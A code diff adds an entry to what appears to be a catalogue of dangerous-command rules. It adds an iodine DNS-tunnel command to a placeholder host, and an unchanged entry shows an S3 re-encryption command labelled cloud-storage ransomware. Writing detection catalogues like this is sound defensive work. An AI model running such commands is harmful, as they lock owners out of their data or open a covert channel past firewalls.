@@ -765,6 +765,11 @@ CATALOGUE: dict[str, Rule] = _rules(
         " without that key nobody can read them again (cloud-storage ransomware)",
         "aws s3 cp s3://b s3://b --recursive --sse-c AES256 --sse-c-key fileb://k.bin",
     ),
+    (
+        "tunnel",
+        "tunnels traffic through DNS queries (a covert channel past firewalls)",
+        "iodine -f -P secret 203.0.113.9 t.example.net",
+    ),
 )
 
 # The settings under which the user-rule examples fire.
